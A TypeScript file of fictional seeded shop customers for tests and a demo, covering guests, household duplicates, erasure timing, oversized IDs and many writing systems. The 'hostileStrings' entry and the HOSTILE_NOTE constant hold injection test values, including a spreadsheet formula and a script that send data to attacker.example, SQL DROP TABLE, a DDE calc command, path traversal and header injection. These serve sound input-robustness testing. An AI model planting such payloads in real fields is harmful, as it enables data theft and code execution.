/**
 * Customers and guests that every seeded shop has, so that tests and the demo can call them by name.
 * None of them exists: addresses under RFC 2606 names, numbers from ranges kept free for fiction.
 */
import type { CountryCode } from './countries.ts';

/** Where in the shop's history (0 its first order, 1 now) a person's orders lie. */
export interface OrderSpan {
  /** 'heaviest' is 1,000, or a fifth of all orders where there are fewer than 5,000. */
  count: number | 'heaviest';
  from: number;
  to: number;
  /** Placed without an account: the order knows the e-mail, but no customer. */
  guest?: true;
}

export interface SpecialPerson {
  firstName: string | null;
  lastName: string | null;
  email: string | null;
  phone: string | null;
  country: CountryCode;
  orders: readonly OrderSpan[];
  /** Customer's number where the usual ascending one will not do. */
  id?: string;
  address1?: string;
  company?: string;
  /** Index in the country's cities. */
  city?: number;
  note?: string;
  tags?: readonly string[];
  /** Texts a shopper can type at checkout: cart attributes and line item properties. */
  attribute?: string;
  dataSaleOptOut?: true;
  /** No address is known. */
  bare?: true;
  /** Has records of every kind: company, subscription, payment methods, dispute, comments, reviews ... */
  everything?: true;
}

const span = (count: number | 'heaviest', from: number, to: number): OrderSpan => ({ count, from, to });

function person<Email extends string | null>(
  firstName: string | null,
  lastName: string | null,
  email: Email,
  country: CountryCode,
  more: Partial<SpecialPerson> = {},
): SpecialPerson & { email: Email } {
  return { firstName, lastName, country, phone: null, orders: [span(3, 0.2, 0.98)], ...more, email };
}

/** What a spreadsheet, a page, a database, a template, a file system or a mail header might obey. */
const HOSTILE_NOTE = [
  '=HYPERLINK("https://attacker.example/?d="&A1,"Click for refund")',
  '<script>fetch("https://attacker.example")</script><img src=x onerror=alert(1)>',
  '"; DROP TABLE customers; --',
  '#{7*7} {{7*7}} <%= 7*7 %> %s %n \\u0000 \\x00 %00 \\0',
  '../../etc/passwd',
  'right-to-left \u202Egpj.exe\u202C, zero width \u200B\u200D\uFEFF, null-like \u2400',
  'line\r\nX-Injected: header\ttab',
].join('\n');

export const people = {
  thousandOrders: person('Mila', 'Novak', 'mila.novak@example.com', 'DE', {
    phone: '+493023125901',
    orders: [span('heaviest', 0, 1)],
    tags: ['VIP', 'wholesale'],
  }),
  everything: person('Theo', 'Lindqvist', 'theo.lindqvist@example.org', 'SE', {
    phone: '+46701740650',
    orders: [span(12, 0.1, 0.995)],
    everything: true,
    tags: ['VIP', 'newsletter', 'repair-2024'],
    company: 'Lindqvist Möbler AB',
    note: 'Prefers to be called in the evening. Allergic to wool.',
    attribute: 'Please write "Happy birthday, Astrid" on the card',
  }),
  noOrders: person('Jonas', 'Berg', 'jonas.berg@example.net', 'DE', { orders: [] }),
  /** Ordered twice without logging in, too: those orders know the e-mail and no customer. */
  guestAndCustomer: person('Nora', 'Quinn', 'nora.quinn@example.com', 'IE', {
    phone: '+353209100907',
    orders: [span(2, 0.5, 0.9), { ...span(2, 0.1, 0.4), guest: true }],
  }),
  householdA: person('Clara', 'Winter', 'clara.winter@example.org', 'GB', {
    phone: '+447700900912',
    address1: '4 Privet Lane',
    city: 0,
    orders: [span(4, 0.2, 0.98)],
  }),
  /** Lives with householdA: same address, same telephone, another person. */
  householdB: person('Emil', 'Winter', 'emil.winter@example.org', 'GB', {
    phone: '+447700900912',
    address1: '4 Privet Lane',
    city: 0,
  }),
  /** Last order more than six months ago, so that an erasure need not wait. */
  dormant: person('Ruth', 'Keller', 'ruth.keller@example.net', 'DE', { orders: [span(3, 0.05, 0.5)] }),
  /** Ordered within the last days, so that an erasure is withheld. */
  recent: person('Sami', 'Osei', 'sami.osei@example.com', 'GB', { orders: [span(2, 0.985, 1)] }),
  /** A newsletter subscriber: nothing but an e-mail is known. */
  emailOnly: person(null, null, 'newsletter.reader@example.org', 'FR', { orders: [], bare: true }),
  phoneOnly: person('Ines', 'Duarte', null, 'FR', { phone: '+33639980007', orders: [span(1, 0.4, 0.9)] }),
  /** A Californian who has opted out of the sale of data. */
  optedOut: person('Dana', 'Reyes', 'dana.reyes@example.com', 'US', {
    phone: '+12135550142',
    city: 1,
    orders: [span(5, 0.2, 0.98)],
    dataSaleOptOut: true,
  }),
  /** The number does not fit a double: 2^53 + 1. */
  bigId: person('Ottilie', 'Grande', 'ottilie.grande@example.net', 'IT', { id: '9007199254740993' }),
  hostileStrings: person(
    '=HYPERLINK("https://attacker.example","Refund")',
    '<script>alert(1)</script>',
    'hostile@example.com',
    'US',
    {
      address1: '"; DROP TABLE customers; --',
      company: "=cmd|' /C calc'!A0",
      note: HOSTILE_NOTE,
      attribute: HOSTILE_NOTE,
      tags: ['=1+1', '+1+1', '-2+3', '@SUM(A1:A9)', '<b>bold</b>', '../../etc/passwd'],
    },
  ),
  formulaName: person('+1+1', "@SUM(1+1)*cmd|' /C calc'!A0", 'formula@example.com', 'GB', {
    attribute: '\t=1+1',
    note: '-1+1',
  }),
  veryLong: person(
    'Wolfeschlegelstein'.repeat(14),
    'Hausenbergerdorff'.repeat(15),
    `${'long.'.repeat(12)}x@example.com`,
    'DE',
    {
      note: 'This note is long. '.repeat(260).trimEnd(),
      attribute: 'w'.repeat(255),
    },
  ),
  rightToLeftOverride: person('Max\u202Egnissim', 'Zero\u200BWidth\uFEFF', 'bidi@example.com', 'US', {
    note: 'invoice\u202Efdp.exe',
  }),
  pathTraversal: person('../../etc/passwd', '..\\..\\windows\\win.ini', 'path@example.com', 'FR', {
    tags: ['../', '..\\', 'CON', 'NUL'],
  }),
  lineBreaks: person('Line\nBreak', 'Tab\tComma, "Quote"; \\u0000', 'lines@example.com', 'NL', {
    note: 'first\r\nsecond\nthird\u2028fourth',
  }),
  arabic: person('ليلى', 'الحداد', 'layla@mail.example', 'AE'),
  hebrew: person('נועה', 'שפירא', 'noa@mail.example', 'IL'),
  chinese: person('雅婷', '歐陽', 'yating@mail.example', 'CN'),
  japanese: person('さくら', '髙橋', 'sakura@mail.example', 'JP'),
  korean: person('서연', '김', 'seoyeon@mail.example', 'KR'),
  greek: person('Ελένη', 'Παπαδοπούλου', 'eleni@mail.example', 'GR'),
  cyrillic: person('Оксана', 'Шевчук', 'oksana@mail.example', 'UA'),
  hindi: person('प्रिया', 'शर्मा', 'priya@mail.example', 'IN'),
  /** Composed letters in the first name, combining marks in the last. */
  accented: person('Zoë', 'Nguye\u0302\u0303n-Łukasiewicz', 'zoe@mail.example', 'VN'),
  emoji: person('🦊 Fox', '👩🏽‍🔧🏳️‍🌈', 'fox@mail.example', 'US', { note: '🎁 gift 👨‍👩‍👧‍👦' }),
} satisfies Record<string, SpecialPerson>;

/** People with orders and no customer record. */
export const guests = {
  guestOnly: person('Petra', 'Sommer', 'petra.sommer@example.com', 'DE', {
    phone: '+493023125955',
    orders: [{ ...span(4, 0.2, 0.97), guest: true }],
  }),
  guestOnce: person('Liam', 'Okafor', 'liam.okafor@example.net', 'GB', {
    orders: [{ ...span(1, 0.6, 0.7), guest: true }],
  }),
} satisfies Record<string, SpecialPerson>;

export type PersonName = keyof typeof people;

const FIRST_CUSTOMER_NUMBER = 9_999_990_000_000;
const CUSTOMER_NUMBER_STEP = 32_768;

/** Number of the n-th customer: 13 digits at first, 14 from about the 300th on. */
export const customerNumber = (n: number): string =>
  Object.values<SpecialPerson>(people)[n]?.id ?? String(FIRST_CUSTOMER_NUMBER + n * CUSTOMER_NUMBER_STEP);

/** Global id of a customer of the table, the same in every seeded shop. */
export const customerIdOf = (name: PersonName): string =>
  `gid://shopify/Customer/${customerNumber(Object.keys(people).indexOf(name))}`;
